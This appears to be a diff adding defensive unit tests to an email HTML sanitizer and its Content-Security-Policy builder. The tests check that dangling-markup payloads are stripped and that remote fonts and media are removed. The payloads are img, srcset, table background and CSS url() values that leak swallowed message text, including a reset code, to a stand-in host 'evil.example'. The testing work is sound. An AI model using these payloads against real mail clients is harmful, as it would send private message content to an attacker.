@@ -96,12 +96,82 @@ describe('sanitizeMailHtml', () => {
   });
 });
 
+describe('sanitizeMailHtml against dangling markup and loads that can never happen', () => {
+  // An unterminated attribute swallows the rest of the message: after "Load remote content" it
+  // would be sent to the sender's server inside the URL.
+  const SECRET = 'Your reset code is 93145. <b>Do not share it</b>.\n"Quoted reply"';
+
+  it('drops an img src that swallowed the following markup', () => {
+    const result = permissive(`<img src="https://evil.example/?leak=<p>${SECRET}</p><p>end</p>">`);
+    expect(result.html).not.toContain('evil.example');
+  });
+
+  it('drops remote URLs holding a newline, < or a quote, in src, srcset, background and CSS', () => {
+    const hostile = [
+      '<img src="https://evil.example/a\nb.png">',
+      "<img src=\"https://evil.example/a'b.png\">",
+      '<img srcset="https://evil.example/a.png?x=<i>secret</i> 1x">',
+      '<img srcset="https://evil.example/a.png?x=\nsecret 2x">',
+      '<table background="https://evil.example/?<td>secret"><tr><td>cell</td></tr></table>',
+      '<div style="background: url(&quot;https://evil.example/?x=\nsecret&quot;)">t</div>',
+      '<div style="background: url(https://evil.example/?x=&lt;b&gt;secret)">t</div>',
+      "<style>p { background: url('https://evil.example/?x=\"secret') }</style>",
+    ];
+    for (const html of hostile) {
+      const result = permissive(html);
+      expect(result.html, html).not.toContain('evil.example');
+      expect(blocked(html).blockedRemote, html).toBe(false);
+    }
+  });
+
+  it('drops a CSS url( left open to the end of the style', () => {
+    const result = permissive(`<div style="background:url('https://evil.example/?x=secret">t</div>`);
+    expect(result.html).not.toContain('evil.example');
+  });
+
+  it('still keeps an ordinary https image with a query string', () => {
+    const result = permissive('<img src="https://images.example/a.png?w=600&amp;h=200">');
+    expect(result.html).toContain('src="https://images.example/a.png?w=600&amp;h=200"');
+  });
+
+  it('removes remote fonts, which the frame never loads, without offering to load them', () => {
+    const css = '<style>@font-face { font-family: X; src: url(https://fonts.example/x.woff2) format("woff2"); } p { color: red }</style><p>t</p>';
+    for (const result of [blocked(css), permissive(css)]) {
+      expect(result.html).not.toContain('fonts.example');
+      expect(result.html).toContain('color: red');
+      expect(result.blockedRemote).toBe(false);
+    }
+  });
+
+  it('removes audio and video sources, which the frame never loads, without offering to load them', () => {
+    const html = '<video src="https://media.example/v.mp4"></video><audio><source src="https://media.example/a.mp3"><track src="https://media.example/t.vtt"></audio><p>t</p>';
+    for (const result of [blocked(html), permissive(html)]) {
+      expect(result.html).not.toContain('media.example');
+      expect(result.blockedRemote).toBe(false);
+    }
+  });
+
+  it('loads http images over https once allowed, since the frame loads nothing else', () => {
+    const html = '<img src="http://images.example/logo.png">';
+    expect(blocked(html).blockedRemote).toBe(true);
+    expect(permissive(html).html).toContain('src="https://images.example/logo.png"');
+  });
+});
+
 describe('mailDocument', () => {
   it('puts a CSP that forbids scripts and remote loads first in the head', () => {
     const documentHtml = mailDocument('<p>x</p>', false);
-    expect(documentHtml).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:"`);
+    expect(documentHtml).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; form-action 'none'; base-uri 'none'"`);
     expect(documentHtml.indexOf('Content-Security-Policy')).toBeLessThan(documentHtml.indexOf('<p>x</p>'));
     expect(documentHtml).toContain('<base target="_blank">');
+  });
+
+  it("forbids form submissions and base URLs, which do not fall back to default-src", () => {
+    for (const allowRemote of [false, true]) {
+      const documentHtml = mailDocument('<p>x</p>', allowRemote);
+      expect(documentHtml).toContain("form-action 'none'");
+      expect(documentHtml).toContain("base-uri 'none'");
+    }
   });
 
   it('widens only img-src to https when remote content is allowed', () => {
